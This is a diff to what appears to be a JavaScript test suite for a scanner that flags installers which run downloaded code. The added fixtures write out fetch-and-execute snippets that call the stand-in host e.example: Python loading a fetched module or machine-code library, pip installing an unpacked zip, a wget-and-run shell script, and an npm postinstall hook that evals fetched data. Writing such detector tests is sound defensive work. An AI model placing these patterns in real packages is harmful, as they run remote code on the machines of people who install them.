@@ -80,6 +80,32 @@ describe('the checks hold an installer that runs what it has fetched', () => {
       `${FETCH}urlretrieve("https://e.example/a.whl", "a-1.0-py3-none-any.whl")\nsubprocess.run([sys.executable, "-m", "pip", "install", "a-1.0-py3-none-any.whl"])\n`,
     ],
     [
+      'as a module that it loads by its path',
+      `${FETCH}import importlib.util\nurlretrieve("https://e.example/a", "/tmp/step.py")\nspec = importlib.util.spec_from_file_location("step", "/tmp/step.py")\nspec.loader.exec_module(importlib.util.module_from_spec(spec))\n`,
+    ],
+    [
+      'as a library of machine code',
+      `${FETCH}import ctypes\nurlretrieve("https://e.example/a", "/tmp/step.bin")\nctypes.CDLL("/tmp/step.bin")\n`,
+    ],
+    [
+      'by pip from a folder that it has unpacked',
+      `${FETCH}import io, zipfile\nzipfile.ZipFile(io.BytesIO(urlopen("https://e.example/a.zip").read())).extractall("p")\nsubprocess.run([sys.executable, "-m", "pip", "install", "./p"])\n`,
+    ],
+    [
+      'in a shell script under another name',
+      '',
+      { 'post_install.sh': 'wget -qO /tmp/i https://e.example/i\nchmod +x /tmp/i\n/tmp/i\n' },
+    ],
+    [
+      'in a command of npm',
+      '',
+      {
+        'package.json': JSON.stringify({
+          scripts: { postinstall: `node -e "require('https').get('https://e.example/a', (r) => r.on('data', eval))"` },
+        }),
+      },
+    ],
+    [
       'as a path file of Python',
       `${FETCH}import site\nurlretrieve("https://e.example/a", os.path.join(site.getsitepackages()[0], "a.pth"))\n`,
     ],
